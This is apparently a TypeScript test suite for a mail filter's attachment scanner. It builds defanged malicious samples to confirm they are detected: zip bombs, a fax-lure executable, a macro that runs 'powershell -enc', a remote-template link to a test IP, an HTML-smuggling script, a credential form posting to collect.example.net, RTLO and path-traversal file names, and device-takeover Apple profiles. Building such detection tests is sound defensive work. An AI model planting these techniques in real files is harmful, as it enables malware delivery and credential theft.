import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateSync, gzipSync } from 'node:zlib';
import { defaultConfig, resolveConfig } from '../../config/load.js';
import type { SpamlabConfig } from '../../config/schema.js';
import { buildOle, buildVbaDir, ovbaCompressLiteral } from '../../files/test-support/ole-builder.js';
import { messageWith } from '../../files/test-support/message.js';
import { buildPe } from '../../files/test-support/pe-builder.js';
import { profileXml, signedProfile } from '../../files/test-support/profile-builder.js';
import { buildOverlappingZipBomb, buildZip } from '../../files/test-support/zip-builder.js';
import { scoreFindings } from '../../score/score.js';
import { buildScoreTable, CATALOGUE } from '../../score/table.js';
import type { CheckOutput } from '../types.js';
import { attachmentsFamily } from './index.js';
import { testServices } from '../../test-support/services.js';
import { cpuStopwatch } from '../../test-support/cpu-time.js';

const NOW = new Date('2014-11-20T10:00:00Z');

async function run(attachments: Parameters<typeof messageWith>[0], text = '', config: SpamlabConfig = defaultConfig()): Promise<{ out: CheckOutput; ids: Set<string>; verdict: string; evidence: string }> {
  const [check] = attachmentsFamily.create({ config, services: testServices({ now: () => NOW }, config) });
  const out = await check!.run(messageWith(attachments, text), { now: NOW, signal: new AbortController().signal });
  const table = buildScoreTable(CATALOGUE, config.thresholds);
  const result = scoreFindings(out.findings, table);
  return { out, ids: new Set(out.findings.map((f) => f.id)), verdict: result.verdict, evidence: out.findings.map((f) => `${f.id} ${f.evidence}`).join('\n') };
}

test('done-when: a fax lure FAX_scan.pdf.scr (a PE) inside a zip is malware, naming the inner file, the double extension and the type', async () => {
  const zip = buildZip([{ name: 'FAX_scan.pdf.scr', data: buildPe({ imports: { 'urlmon.dll': ['URLDownloadToFileA'] } }) }]);
  const { out, ids, verdict, evidence } = await run([{ filename: 'FAX_scan.zip', content: zip, declaredType: 'application/zip' }], 'You have received a new fax.');
  assert.equal(verdict, 'malware');
  for (const id of ['ATTACH_EXECUTABLE', 'ATTACH_DOUBLE_EXTENSION', 'ATTACH_EXECUTABLE_NAME', 'ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_PE_SUSPICIOUS_IMPORTS']) assert.ok(ids.has(id), `${id}\n${evidence}`);
  assert.match(evidence, /ATTACH_EXECUTABLE FAX_scan\.zip > FAX_scan\.pdf\.scr: Windows PE executable/);
  assert.match(evidence, /ATTACH_DOUBLE_EXTENSION FAX_scan\.zip > FAX_scan\.pdf\.scr: \.pdf\.scr/);
  assert.equal(out.iocs?.hashes?.length, 2);
  assert.ok(out.iocs?.hashes?.every((h) => /^[0-9a-f]{32}$/.test(h.md5) && /^[0-9a-f]{40}$/.test(h.sha1) && /^[0-9a-f]{64}$/.test(h.sha256)));
  assert.deepEqual(out.categories?.[0]?.name, 'malware-lure');
});

test('done-when: a zip bomb that would expand to 10 GB finishes quickly within the limits', async () => {
  // Nested: 10 × 10 MiB of zeros per zip, three levels: 10 × 10 × 10 × 10 MiB ≈ 10 GiB.
  const zeros = Buffer.alloc(10 * 1024 * 1024);
  let level = buildZip(Array.from({ length: 10 }, (_, i) => ({ name: `zeros${i}.bin`, data: zeros })));
  for (let depth = 1; depth < 3; depth++) level = buildZip(Array.from({ length: 10 }, (_, i) => ({ name: `level${depth}-${i}.zip`, data: level })));
  const overlapping = buildOverlappingZipBomb(1000, 10 * 1024 * 1024); // 1000 × 10 MiB ≈ 10 GiB
  for (const [name, content] of [['nested-bomb.zip', level], ['overlap-bomb.zip', overlapping]] as const) {
    const cpuMs = cpuStopwatch();
    const { ids, evidence } = await run([{ filename: name, content }]);
    const ms = cpuMs();
    assert.ok(ids.has('ATTACH_ZIP_BOMB'), `${name}\n${evidence}`);
    assert.ok(ms < 5000, `${name} took ${ms} CPU ms`);
  }
});

test('a zip whose headers lie about sizes still stops at the ratio bound', async () => {
  const zip = buildZip([{ name: 'small.txt', data: Buffer.alloc(20 * 1024 * 1024), declaredSize: 100 }]);
  const { ids, evidence } = await run([{ filename: 'liar.zip', content: zip }]);
  assert.ok(ids.has('ATTACH_ZIP_BOMB'), evidence);
});

test('done-when: a 20-level nested archive stops at the depth limit', async () => {
  let inner: Buffer = buildZip([{ name: 'payload.exe', data: buildPe() }]);
  for (let i = 0; i < 19; i++) inner = i % 2 ? buildZip([{ name: `level${i}.zip`, data: inner }]) : gzipSync(inner);
  const cpuMs = cpuStopwatch();
  const { ids, evidence } = await run([{ filename: 'deep.zip', content: inner }]);
  assert.ok(ids.has('ATTACH_ARCHIVE_LIMIT_DEPTH'), evidence);
  assert.ok(cpuMs() < 2000);
});

test('total decompressed bytes and entry count limits are findings', async () => {
  const random = Buffer.alloc(2 * 1024 * 1024);
  let x = 1;
  for (let i = 0; i < random.length; i++) random[i] = (x = (x * 1103515245 + 12345) >>> 0) >>> 24;
  const config = resolveConfig({ attachments: { limits: { maxTotalBytes: 5 * 1024 * 1024, maxEntriesPerArchive: 3 } } });
  const zip = buildZip(Array.from({ length: 5 }, (_, i) => ({ name: `r${i}.bin`, data: random })));
  const { ids, evidence } = await run([{ filename: 'big.zip', content: zip }], '', config);
  assert.ok(ids.has('ATTACH_ARCHIVE_LIMIT_ENTRIES'), evidence);
  assert.ok(ids.has('ATTACH_ARCHIVE_LIMIT_BYTES'), evidence);
});

test('encrypted zip with the password in the body: noted, opened, and the inside analysed', async () => {
  const zip = buildZip([{ name: 'invoice.js', data: 'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c calc");', password: 'x7Kp2' }]);
  const { ids, evidence } = await run([{ filename: 'invoice.zip', content: zip }], 'Invoice attached.\nパスワード：x7Kp2\n');
  for (const id of ['ATTACH_ARCHIVE_PASSWORD_IN_BODY', 'ATTACH_SCRIPT', 'ATTACH_ARCHIVE_WITH_DANGEROUS']) assert.ok(ids.has(id), `${id}\n${evidence}`);
  assert.match(evidence, /"x7Kp2" opens invoice\.zip/);
  // Opened, the encryption hid nothing: the script inside is the finding, not the lock (session 14).
  assert.ok(!ids.has('ATTACH_ARCHIVE_ENCRYPTED'), evidence);
  // Without the password it is still closed.
  const closed = await run([{ filename: 'invoice.zip', content: zip }], 'Invoice attached.\n');
  assert.ok(closed.ids.has('ATTACH_ARCHIVE_ENCRYPTED'), closed.evidence);
});

test('macro document with auto-exec and suspicious calls is malware; quotes the calls', async () => {
  const source = 'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\nShell "powershell -enc AAAA"\r\nEnd Sub\r\n';
  const doc = buildOle({
    WordDocument: Buffer.alloc(600),
    'Macros/VBA/dir': ovbaCompressLiteral(buildVbaDir([{ name: 'ThisDocument' }])),
    'Macros/VBA/_VBA_PROJECT': Buffer.alloc(7),
    'Macros/VBA/ThisDocument': ovbaCompressLiteral(source),
  });
  const { ids, verdict, evidence } = await run([{ filename: 'Rechnung.doc', content: doc, declaredType: 'application/msword' }]);
  for (const id of ['ATTACH_MACRO', 'ATTACH_MACRO_AUTOEXEC', 'ATTACH_MACRO_SUSPICIOUS', 'ATTACH_MACRO_MALICIOUS']) assert.ok(ids.has(id), `${id}\n${evidence}`);
  assert.match(evidence, /Document_Open runs Shell, PowerShell/);
  assert.equal(verdict, 'malware');
});

test('OOXML remote template injection and Excel 4.0 macro sheets', async () => {
  const docx = buildZip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'word/document.xml', data: '<w:document/>' },
    { name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>' },
  ]);
  const xlsm = buildZip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' },
  ]);
  const a = await run([{ filename: 'offer.docx', content: docx }]);
  assert.ok(a.ids.has('ATTACH_REMOTE_TEMPLATE'), a.evidence);
  assert.match(a.evidence, /attachedTemplate → http:\/\/198\.51\.100\.7\/template\.dotm/);
  assert.equal(a.verdict, 'malware');
  const b = await run([{ filename: 'data.xlsm', content: xlsm }]);
  assert.ok(b.ids.has('ATTACH_XLM_MACRO'), b.evidence);
});

test('PDF: obfuscated /JavaScript in an object stream is found; a PDF with links only is not malware', async () => {
  const zlibWrapped = deflateSync(Buffer.from('<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>'));
  const evil = Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /Type /ObjStm /Filter /FlateDecode /Length 99 >>\nstream\n'),
    zlibWrapped,
    Buffer.from('\nendstream endobj\n%%EOF\n'),
  ]);
  const a = await run([{ filename: 'statement.pdf', content: evil, declaredType: 'application/pdf' }]);
  for (const id of ['ATTACH_PDF_JAVASCRIPT', 'ATTACH_PDF_OBFUSCATED_NAMES', 'ATTACH_PDF_AUTO_ACTION']) assert.ok(a.ids.has(id), `${id}\n${a.evidence}`);
  const plain = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/report) >> >> endobj\n%%EOF\n');
  const b = await run([{ filename: 'report.pdf', content: plain, declaredType: 'application/pdf' }]);
  // A message that says nothing but hands over a PDF whose link leads elsewhere is a document lure (phishing-class
  // evidence), never malware; alone it decides nothing.
  assert.deepEqual([...b.ids].sort(), ['ATTACH_PDF_LINK_LURE', 'ATTACH_PDF_URI']);
  assert.equal(b.verdict, 'clean');
  assert.deepEqual(b.out.iocs?.urls, ['https://example.com/report']);
});

test('Office link lure: a whole picture or shape that links elsewhere, handed over by a body that says nearly nothing', async () => {
  const hyperlink = (target: string) => `<Relationships><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`;
  const template = '<Relationships><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>';
  // The honeypot's slide (session 9): one picture whose non-visual properties carry the click.
  const picture = '<p:sld><p:cSld><p:spTree><p:pic><p:nvPicPr><p:cNvPr id="54" name="Google Shape;54;p13"><a:hlinkClick r:id="rId3"/></p:cNvPr></p:nvPicPr></p:pic></p:spTree></p:cSld></p:sld>';
  const wordPicture = '<w:document><w:body><w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Picture 1"><a:hlinkClick xmlns:a="x" r:id="rId3"/></wp:docPr></wp:inline></w:drawing></w:r></w:p></w:body></w:document>';
  const textLink = '<w:document><w:body><w:p><w:hyperlink r:id="rId3"><w:r><w:t>the wiki page</w:t></w:r></w:hyperlink></w:p></w:body></w:document>';
  const pptx = (slide: string, rels: string) => buildZip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'ppt/slides/slide1.xml', data: slide },
    { name: 'ppt/slides/_rels/slide1.xml.rels', data: rels },
  ]);
  const docx = (body: string, rels: string) => buildZip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'word/document.xml', data: body },
    { name: 'word/_rels/document.xml.rels', data: rels },
  ]);
  const long = 'Minutes of the meeting. '.repeat(30);
  const rows: { name: string; filename: string; content: Uint8Array; text: string; lure: boolean }[] = [
    { name: 'a slide that is a picture linked to a landing page ("INFO ATTACH. Client ID")', filename: 'o5314p25TJ6qN.pptx', content: pptx(picture, hyperlink('https://giftether.example/')), text: 'INFO ATTACH. Client ID: #0440519', lure: true },
    { name: 'a Word picture that is a link, entity-encoded', filename: 'Invoice.docx', content: docx(wordPicture, hyperlink('https://pay.example.net/inv?a=1&amp;b=2')), text: 'See attached.', lure: true },
    { name: 'must not: a link on a run of text (a report citing a page)', filename: 'report.docx', content: docx(textLink, hyperlink('https://wiki.example.org/page')), text: '', lure: false },
    { name: 'must not: the body says what it has to say', filename: 'minutes.pptx', content: pptx(picture, hyperlink('https://wiki.example.org/page')), text: long, lure: false },
    { name: 'must not: a picture that links to a mail address', filename: 'contacts.pptx', content: pptx(picture, hyperlink('mailto:someone@example.org')), text: 'Attached.', lure: false },
    { name: 'must not: the picture id resolves to a remote template, another finding', filename: 'offer.docx', content: docx(wordPicture, template), text: 'Attached.', lure: false },
    { name: 'must not: the link in another part than the picture\'s', filename: 'deck.pptx', content: buildZip([{ name: 'ppt/slides/slide1.xml', data: picture }, { name: 'ppt/slides/_rels/slide2.xml.rels', data: hyperlink('https://elsewhere.example/') }]), text: '', lure: false },
  ];
  for (const row of rows) {
    const { ids, verdict, evidence } = await run([{ filename: row.filename, content: row.content }], row.text);
    assert.equal(ids.has('ATTACH_OFFICE_LINK_LURE'), row.lure, `${row.name}\n${evidence}`);
    if (row.lure) {
      assert.match(evidence, /ATTACH_OFFICE_LINK_LURE [^:]+: a picture links to https:\/\//, row.name);
      // Phishing-class evidence that decides nothing alone, like the PDF that is only a link.
      assert.equal(verdict, 'clean', row.name);
    }
  }
});

test('HTML smuggling: the smuggled file is decoded and analysed; credential forms are phishing', async () => {
  const payload = buildZip([{ name: 'Invoice.iso', data: Buffer.alloc(100, 1) }]).toString('base64');
  const html = `<html><body><script>var b64 = "${payload.padEnd(400, 'A')}"; var bin = atob(b64); var bytes = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i); var blob = new Blob([bytes], {type: 'application/octet-stream'}); if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, 'Invoice.zip'); else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'Invoice.zip'; a.click(); }</script></body></html>`;
  const a = await run([{ filename: 'Invoice.html', content: Buffer.from(html), declaredType: 'text/html' }]);
  for (const id of ['ATTACH_HTML_SMUGGLING', 'ATTACH_DISK_IMAGE']) assert.ok(a.ids.has(id), `${id}\n${a.evidence}`);
  assert.equal(a.verdict, 'malware');
  const login = '<html><body><form action="https://collect.example.net/p.php" method="post"><input name="email"><input type="password" name="pw"></form></body></html>';
  const b = await run([{ filename: 'Secure_Message.htm', content: Buffer.from(login) }]);
  assert.ok(b.ids.has('ATTACH_HTML_CREDENTIAL_FORM'), b.evidence);
  assert.match(b.evidence, /posts to https:\/\/collect\.example\.net/);
});

test('names: RTL override, padded spaces, lookalike extension; path traversal in archives', async () => {
  const { ids, evidence } = await run([
    { filename: 'invoice\u202Efdp.exe', content: buildPe() },
    { filename: 'scan.pdf                              .js', content: Buffer.from('WScript.Echo(1)') },
    { filename: 'photo.\u0435x\u0435', content: buildPe() },
    { filename: 'docs.zip', content: buildZip([{ name: '../../Startup/run.bat', data: '@echo off' }]) },
  ]);
  for (const id of ['ATTACH_NAME_RTLO', 'ATTACH_NAME_SPACES', 'ATTACH_NAME_LOOKALIKE_EXTENSION', 'ATTACH_ARCHIVE_PATH_TRAVERSAL', 'ATTACH_SCRIPT']) assert.ok(ids.has(id), `${id}\n${evidence}`);
  assert.match(evidence, /shown as "invoiceexe\.pdf"/);
});

test('Apple configuration and provisioning profiles: by content whatever the name, by name, inside archives; not calendars or S/MIME', async () => {
  // Session 60 (draw17d): a configuration profile that only adds accounts or a web clip is ATTACH_APPLE_PROFILE_ACCOUNTS (phishing);
  // everything else stays ATTACH_APPLE_PROFILE (malware).
  const ACCOUNTS = 'ATTACH_APPLE_PROFILE_ACCOUNTS';
  const TAKEOVER = 'ATTACH_APPLE_PROFILE';
  const rows: { name: string; filename: string; content: Uint8Array; id: string; evidence?: RegExp; ids?: string[] }[] = [
    { name: 'named as it is', filename: 'mail-setup.mobileconfig', content: Buffer.from(profileXml(['com.apple.mail.managed'])), id: ACCOUNTS, evidence: /mail-setup\.mobileconfig: Apple configuration profile; installs com\.apple\.mail\.managed/ },
    { name: 'named without an extension (ATT0718…)', filename: 'ATT07184396351', content: signedProfile(['com.apple.caldav.account']), id: ACCOUNTS, evidence: /ATT07184396351: Apple configuration profile \(signed\) named without an extension; installs com\.apple\.caldav\.account/ },
    { name: 'disguised as a calendar invitation', filename: 'caldav-VzUdn2.ics', content: signedProfile(['com.apple.carddav.account']), id: ACCOUNTS, evidence: /named "\.ics"/ },
    { name: 'device management and a root certificate named first', filename: 'Document.pdf', content: signedProfile(['com.apple.webClip.managed', 'com.apple.mdm', 'com.apple.security.root']), id: TAKEOVER, evidence: /hands over the device or its traffic: com\.apple\.mdm, com\.apple\.security\.root/, ids: ['ATTACH_TYPE_MISMATCH'] },
    { name: 'a provisioning profile', filename: 'embedded.mobileprovision', content: Buffer.from('<?xml version="1.0"?><plist version="1.0"><dict><key>DeveloperCertificates</key><array/><key>Entitlements</key><dict/><key>ProvisionedDevices</key><array/></dict></plist>'), id: TAKEOVER, evidence: /Apple provisioning profile; lets apps of its signer run/ },
    { name: 'by name when the content is not one', filename: 'vpn.mobileconfig', content: Buffer.from('not a profile'), id: TAKEOVER, evidence: /vpn\.mobileconfig: \.mobileconfig file/ },
    { name: 'inside a zip', filename: 'settings.zip', content: buildZip([{ name: 'Secure Mail.mobileconfig', data: profileXml(['com.apple.mail.managed']) }]), id: ACCOUNTS, evidence: /settings\.zip > Secure Mail\.mobileconfig: Apple configuration profile/, ids: ['ATTACH_ARCHIVE_WITH_DANGEROUS'] },
    { name: 'a document behind a profile name', filename: 'invoice.pdf.mobileconfig', content: Buffer.from(profileXml(['com.apple.vpn.managed'])), id: TAKEOVER, ids: ['ATTACH_DOUBLE_EXTENSION'] },
    // Each account and web-clip payload, unsigned and signed (CMS-wrapped), and the cPanel set of three.
    ...(['com.apple.mail.managed', 'com.apple.eas.account', 'com.apple.caldav.account', 'com.apple.carddav.account', 'com.apple.ldap.account', 'com.apple.subscribedcalendar.account', 'com.apple.webClip.managed'] as const).flatMap((type) => [
      { name: `accounts: ${type}, unsigned`, filename: 'setup.mobileconfig', content: Buffer.from(profileXml([type])), id: ACCOUNTS },
      { name: `accounts: ${type}, signed`, filename: 'ATT0001', content: signedProfile([type]), id: ACCOUNTS },
    ]),
    { name: 'accounts: a hijacked cPanel host\'s mail, CalDAV and CardDAV set, signed', filename: 'email-host.mobileconfig', content: signedProfile(['com.apple.mail.managed', 'com.apple.caldav.account', 'com.apple.carddav.account']), id: ACCOUNTS },
    // Each takeover payload, unsigned and signed; an account beside a takeover payload or any other payload; a web clip beside a VPN.
    ...(['com.apple.mdm', 'com.apple.security.root', 'com.apple.security.pkcs12', 'com.apple.vpn.managed', 'com.apple.proxy.http.global', 'com.apple.dnsSettings.managed'] as const).flatMap((type) => [
      { name: `takeover: ${type}, unsigned`, filename: 'setup.mobileconfig', content: Buffer.from(profileXml([type])), id: TAKEOVER },
      { name: `takeover: ${type}, signed`, filename: 'ATT0002', content: signedProfile([type]), id: TAKEOVER },
    ]),
    { name: 'takeover: a mail account beside a root certificate', filename: 'mail.mobileconfig', content: signedProfile(['com.apple.mail.managed', 'com.apple.security.root']), id: TAKEOVER },
    { name: 'takeover: a web clip beside a VPN', filename: 'app.mobileconfig', content: Buffer.from(profileXml(['com.apple.webClip.managed', 'com.apple.vpn.managed'])), id: TAKEOVER },
    { name: 'not only accounts: a mail account beside a Wi-Fi network (any other payload)', filename: 'office.mobileconfig', content: Buffer.from(profileXml(['com.apple.mail.managed', 'com.apple.wifi.managed'])), id: TAKEOVER },
    { name: 'not only accounts: an app payload', filename: 'app.mobileconfig', content: signedProfile(['com.apple.app.managed']), id: TAKEOVER },
  ];
  for (const row of rows) {
    const { ids, evidence } = await run([{ filename: row.filename, content: row.content }]);
    assert.ok(ids.has(row.id), `${row.name}: ${row.id}\n${evidence}`);
    assert.ok(!ids.has(row.id === ACCOUNTS ? TAKEOVER : ACCOUNTS), `${row.name}: one of the two\n${evidence}`);
    if (row.evidence) assert.match(evidence, row.evidence, row.name);
    for (const id of row.ids ?? []) assert.ok(ids.has(id), `${row.name}: ${id}\n${evidence}`);
  }
  // An account-only profile alone decides nothing (cPanel mails one to a mailbox's owner on request); a takeover profile is malware.
  assert.equal((await run([{ filename: 'email-host.mobileconfig', content: signedProfile(['com.apple.mail.managed', 'com.apple.caldav.account']) }], 'Here is the profile to set up your mail on your iPhone.')).verdict, 'clean');
  assert.equal((await run([{ filename: 'setup.mobileconfig', content: signedProfile(['com.apple.mdm']) }], 'Install this profile.')).verdict, 'malware');
  // Must not: a calendar invitation, an S/MIME signature, an app's property list, an XML export.
  const smime = Buffer.concat([Buffer.from([0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02, 0xa0, 0x80]), Buffer.alloc(1500, 0x42)]);
  const { ids, evidence } = await run([
    { filename: 'invite.ics', content: Buffer.from('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'), declaredType: 'text/calendar' },
    { filename: 'smime.p7s', content: smime, declaredType: 'application/pkcs7-signature' },
    { filename: 'Info.plist', content: Buffer.from('<?xml version="1.0"?><plist version="1.0"><dict><key>CFBundleIdentifier</key><string>org.example</string></dict></plist>') },
    { filename: 'export.xml', content: Buffer.from('<?xml version="1.0"?><rows><row>PayloadType</row></rows>') },
  ]);
  assert.ok(!ids.has('ATTACH_APPLE_PROFILE') && !ids.has('ATTACH_APPLE_PROFILE_ACCOUNTS'), evidence);
});

test('type mismatch: a PE named .pdf and declared application/pdf', async () => {
  const { ids, evidence, verdict } = await run([{ filename: 'contract.pdf', content: buildPe(), declaredType: 'application/pdf' }]);
  for (const id of ['ATTACH_TYPE_MISMATCH', 'ATTACH_DECLARED_TYPE_MISMATCH', 'ATTACH_EXECUTABLE']) assert.ok(ids.has(id), `${id}\n${evidence}`);
  assert.equal(verdict, 'malware');
});

test('known-bad hash list (inline) matches inner files', async () => {
  const inner = Buffer.from('not really malware, but listed');
  const { createHash } = await import('node:crypto');
  const config = resolveConfig({ attachments: { knownBadHashes: [createHash('md5').update(inner).digest('hex')] } });
  const { ids } = await run([{ filename: 'a.zip', content: buildZip([{ name: 'note.txt', data: inner }]) }], '', config);
  assert.ok(ids.has('ATTACH_KNOWN_BAD_HASH'));
});

test('ordinary attachments raise nothing', async () => {
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(100)]);
  const docx = buildZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'word/_rels/document.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>' }]);
  const { out } = await run([
    { filename: 'photo.png', content: png, declaredType: 'image/png' },
    { filename: 'report.docx', content: docx },
    { filename: 'notes.txt', content: Buffer.from('hello'), declaredType: 'text/plain' },
  ]);
  assert.deepEqual(out.findings, []);
});

test('ClamAV verdicts through an injected clamd service (fake here; the real client is tested in src/files/clamd)', async () => {
  const config = defaultConfig();
  const scanned: number[] = [];
  const [check] = attachmentsFamily.create({
    config,
    services: testServices({ now: () => NOW, clamd: { scan: async (b) => (scanned.push(b.length), b.length === 3 ? { status: 'infected', signature: 'Test.Sig' } : { status: 'error', message: 'down' }) } }),
  });
  const out = await check!.run(messageWith([{ filename: 'a.bin', content: Buffer.from('abc') }, { filename: 'b.bin', content: Buffer.from('abcd') }]), { now: NOW, signal: new AbortController().signal });
  assert.deepEqual(out.findings.map((f) => `${f.id} ${f.evidence}`), ['ATTACH_CLAMAV a.bin: Test.Sig', 'ATTACH_CLAMAV_ERROR b.bin: down']);
  assert.deepEqual(scanned, [3, 4]);
});
